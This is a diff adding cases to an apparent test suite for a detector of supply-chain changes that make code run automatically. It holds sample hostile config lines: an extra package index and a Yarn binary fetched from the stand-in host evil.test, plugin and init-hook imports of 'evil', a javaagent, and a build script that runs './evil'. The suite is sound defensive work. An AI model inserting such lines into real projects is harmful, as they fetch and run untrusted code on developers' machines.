@@ -15,6 +15,10 @@ NAMES = """
 sitecustomize.py src/usercustomize.py lib/extra.pth setup.py conftest.py src/conftest.py .npmrc .yarnrc.yml
 pip.conf build.rs crates/one/build.rs .cargo/config.toml AGENTS.md docs/CLAUDE.md .claude/settings.json
 .cursor/mcp.json .cursorrules .mcp.json .codex/config.toml .github/copilot-instructions.md .gdbinit
+sitecustomize/__init__.py lib/usercustomize.so .hg/hgrc .jj/repo/config.toml .latexmkrc .ycm_extra_conf.py
+.bsp/evil.json hie.yaml .luarc.json .pnp.cjs .pdm-python .venv poetry.toml .terraform/x .idx/dev.nix .replit
+.rbenv-vars .user.ini build.gitlab-ci.yml .gitlab/deploy.yml commitlint.config.js user.clj
+tools/bazel .bazelversion .formatter.exs ansible.cfg renovate.json prek.toml
 .VSCode/Tasks.json AGENTS.MD .env\u200brc .bashrc. .envrc::$DATA
 """
 ORDINARY = """
@@ -51,6 +55,32 @@ def test_links_and_programs_are_told_by_what_they_are() -> None:
     assert "hooks" in runs_by_itself(Change("h/pre-commit", b"x", b"x", EXECUTABLE, FILE))
 
 
+@pytest.mark.parametrize(
+    ("path", "line", "harmless"),
+    [
+        ("requirements-dev.txt", "--extra-index-url https://evil.test", "flask>=3"),
+        ("setup.cfg", "plugins = evil", "name = x"),
+        (".pylintrc", "init-hook='import evil'", "disable=C0114"),
+        ("pytest.ini", "addopts = -q -p evil", "addopts = -q"),
+        (".eslintrc.json", '{"plugins": ["./evil"]}', '{"rules": {"semi": 2}}'),
+        (".rubocop.yml", "require: ./evil", "Max: 3"),
+        ("Cargo.toml", 'build = "src/x.rs"', 'serde = "1"'),
+        ("gradle.properties", "org.gradle.jvmargs=-javaagent:x.jar", "org.gradle.jvmargs=-Xmx2g"),
+        ("action.yml", "    - run: evil", "description: x"),
+        (".python-version", "./bin/python", "3.12.1"),
+        (".tool-versions", "python path:./evil", "python 3.12.1"),
+        (".clang-tidy", "ExtraArgs: ['-fplugin=./x.so']", "Checks: '*'"),
+        ("Directory.Build.props", '<Import Project="x.targets" />', "<Version>2.0</Version>"),
+        ("pnpm-workspace.yaml", "onlyBuiltDependencies: [x]", "packages: ['a/*']"),
+    ],
+)
+def test_a_line_tells(path: str, line: str, harmless: str) -> None:
+    old = b"first\n"
+    assert runs_by_itself(Change(path, old, old + line.encode() + b"\n"))
+    assert not runs_by_itself(Change(path, old, old + harmless.encode() + b"\n"))
+    assert not runs_by_itself(Change(path, line.encode(), line.encode() + b"\nmore\n"))
+
+
 def package(before: object, after: object) -> str:
     return runs_by_itself(Change("package.json", json.dumps(before).encode(), json.dumps(after).encode()))
 
@@ -77,3 +107,11 @@ def test_a_python_project_is_warned_of_when_what_builds_it_is_its_own() -> None:
     assert project(own) and project(own, known) and not project(own + "[tool.x]\na = 1\n", own)
     assert project(known + '[tool.hatch.build.hooks.custom]\npath = "x.py"\n', known)
     assert project("payload\nnot TOML")
+
+
+def test_what_a_life_cycle_script_starts_counts_as_well() -> None:
+    before = {"scripts": {"prepare": "npm run build", "build": "tsc", "test": "jest"}}
+    assert package(before, {"scripts": {**before["scripts"], "build": "tsc && ./evil"}})
+    assert not package(before, {"scripts": {**before["scripts"], "test": "vitest"}})
+    assert package({}, {"packageManager": "yarn@https://evil.test/yarn.js"})
+    assert not package({}, {"packageManager": "yarn@4.1.0"})
